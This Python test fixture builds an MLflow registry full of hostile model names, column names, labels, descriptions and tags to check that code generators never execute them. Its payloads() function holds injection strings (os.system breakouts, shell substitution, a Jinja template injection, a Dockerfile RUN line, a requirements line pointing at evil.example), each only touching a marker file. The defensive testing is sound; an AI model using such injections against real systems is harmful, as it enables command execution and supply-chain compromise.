"""Build the hostile registry (run in a subprocess by tests/test_hostile.py): models whose names,
columns, class labels, descriptions and tags are code injections and odd strings, in a real
sqlite MLflow registry, plus a local model directory whose name holds line breaks.

Usage: make_hostile_registry.py TRACKING_URI MARKER_DIR TOKEN. Every payload, if it ever ran,
would create a file named pwned-TOKEN-... in MARKER_DIR or in its working directory; the test
checks none appears. Prints one JSON object describing the models on the last line of stdout.
"""

from __future__ import annotations

import json
import shutil
import sys
import warnings
from pathlib import Path
from typing import Any

import mlflow
import numpy as np
import pandas as pd
from mlflow import MlflowClient
from mlflow.models import infer_signature
from sklearn.linear_model import LogisticRegression

warnings.filterwarnings("ignore")


def payloads(marker: str, where: str) -> dict[str, str]:
    """Injections for every quoting context we write; `marker` is the file each would create."""
    touch = f"touch {marker}-{where}"
    return {
        "py_double": f'x" + str(__import__("os").system("{touch}")) + "',
        "py_single": f"x' + str(__import__('os').system('{touch}')) + '",
        "py_triple": f'"""+str(__import__("os").system("{touch}"))+"""',
        "py_newline": f'x\nimport os; os.system("{touch}")\n#',
        "yaml": f'x"\nevil: "{touch}',
        "docker": f"x\nRUN {touch}\n#",
        "requirements": "x\n--index-url https://evil.example/simple\nevil-package==1.0",
        "shell_subst": f"$({touch})",
        "shell_backtick": f"`{touch}`",
        "shell_quote": f"'; {touch}; echo '",
        "jinja": "{{ cycler.__init__.__globals__.os.system('" + touch + "') }}",
        "jinja_block": "{% for x in range(3) %}{{ x }}{% endfor %}",
    }


def odd_names() -> list[str]:
    """Column names that are not Python identifiers, or that pydantic treats specially."""
    return [
        "it's",
        'say "hi"',
        '"""',
        "'''",
        "back\\slash",
        "trailing\\",
        "x²",
        "_private",
        "__dunder__",
        "#hash",
        "class",
        "def",
        "None",
        "model_config",
        "1st",
        "with space",
        "${HOME}",
        "a|b",
        "*emph*",
        "<script>alert(1)</script>",
        "line\nbreak",
        "tab\tname",
        "名前",
        "😀",
        "-dash",
        "a: b",
        "- item",
        "true",
        "123",
        "x" * 300,
    ]


def log(
    client: MlflowClient, name: str, X: pd.DataFrame, y: Any, description: str, tags: dict[str, str]
) -> str:
    model = LogisticRegression(max_iter=500).fit(X, y)
    with mlflow.start_run():
        mlflow.sklearn.log_model(
            model,
            name="model",
            signature=infer_signature(X, model.predict(X)),
            input_example=X.head(4),
            registered_model_name=name,
        )
    client.update_registered_model(name, description=description)
    for key, value in tags.items():
        client.set_registered_model_tag(name, key, value)
        client.set_model_version_tag(name, "1", key, value)
    client.update_model_version(name, "1", description=description)
    client.set_registered_model_alias(name, "production", "1")
    return f"models:/{name}/1"


def frame(columns: list[str], rows: int, seed: int) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    X = pd.DataFrame(rng.normal(size=(rows, len(columns))), columns=columns)
    # a few typed columns: an integer and a boolean one, whatever their names
    X[columns[1]] = rng.integers(0, 5, rows)
    X[columns[2]] = rng.normal(size=rows) > 0
    return X


def main(tracking_uri: str, marker_dir: str, token: str) -> None:
    mlflow.set_tracking_uri(tracking_uri)
    mlflow.set_experiment("hostile")
    client = MlflowClient(tracking_uri)
    marker = f"{marker_dir}/pwned-{token}"
    relative = f"pwned-{token}"  # a model NAME cannot hold '/': it would run in the working dir
    out: dict[str, Any] = {}

    # 1. The most hostile: a Python injection as the name, every odd name and injection as a
    #    column, injections as the two class labels, the description and the tags.
    column_payloads = payloads(marker, "column")
    columns = [*column_payloads.values(), *odd_names()]
    X = frame(columns, 120, 0)
    label_payloads = payloads(marker, "label")
    labels = np.array([label_payloads["py_double"], label_payloads["py_single"] + "\n" + '"""'])
    y = labels[(X[columns[0]] + X[columns[3]] > 0).astype(int)]
    name = payloads(relative, "name")["py_double"]
    text = "\n".join(payloads(marker, "description").values())
    tags = {f"t{i}": v for i, v in enumerate(payloads(marker, "tag").values())}
    out["hostile"] = {"uri": log(client, name, X, y, text, tags), "name": name, "columns": columns}
    out["hostile"]["classes"] = sorted(labels.tolist())

    # 2. Quotes, backslash and unicode in the name; integer class labels (three classes).
    columns_b = ["it's", 'say "hi"', "None", "x²", "_private"]
    X = frame(columns_b, 150, 1)
    y = np.array([-1, 7, 42])[(X["it's"] > 0.4).astype(int) + (X["x²"] > 0).astype(int)]
    name_b = 'it\'s """ back\\slash ²'
    uri = log(client, name_b, X, y, "'''", {"t": "\\"})
    out["int_labels"] = {"uri": uri, "name": name_b, "columns": columns_b, "classes": [-1, 7, 42]}

    # 3. A name with no letter or digit (no DNS-safe service name); boolean class labels.
    columns_c = ["class", "def", "__dunder__"]
    X = frame(columns_c, 120, 2)
    y = (X["class"] + X["__dunder__"]) > 2
    name_c = '"""'
    uri = log(client, name_c, X, y, "", {})
    out["bool_labels"] = {"uri": uri, "name": name_c, "columns": columns_c, "classes": [False, True]}

    # 4. A line break in the name; string labels with a newline and markup.
    columns_d = ["a|b", "`x`", "line\nbreak"]
    X = frame(columns_d, 120, 3)
    labels_d = np.array(["new\nline", "pipe|`tick`", "*bold* {{ x }}"])
    y = labels_d[(X["a|b"] > 0.4).astype(int) + (X["line\nbreak"] > 0).astype(int)]
    name_d = payloads(relative, "name")["docker"]
    uri = log(client, name_d, X, y, "", {})
    out["newline_name"] = {
        "uri": uri,
        "name": name_d,
        "columns": columns_d,
        "classes": sorted(labels_d.tolist()),
    }

    # 5. A local model directory named with line breaks that would inject a Dockerfile RUN line,
    #    a requirements line and a YAML key (a directory name cannot hold '/').
    local_name = f"m\nRUN touch {relative}-dir\nevil==1.0\nkey: value"
    local = Path(marker_dir).parent / "local-models" / local_name
    if local.exists():
        shutil.rmtree(local)
    local.parent.mkdir(parents=True, exist_ok=True)
    mlflow.artifacts.download_artifacts(
        out["int_labels"]["uri"], dst_path=str(local), tracking_uri=tracking_uri
    )
    out["local_dir"] = {"uri": str(local), "name": local_name, "columns": columns_b, "classes": [-1, 7, 42]}
    print(json.dumps(out))


if __name__ == "__main__":
    main(*sys.argv[1:4])
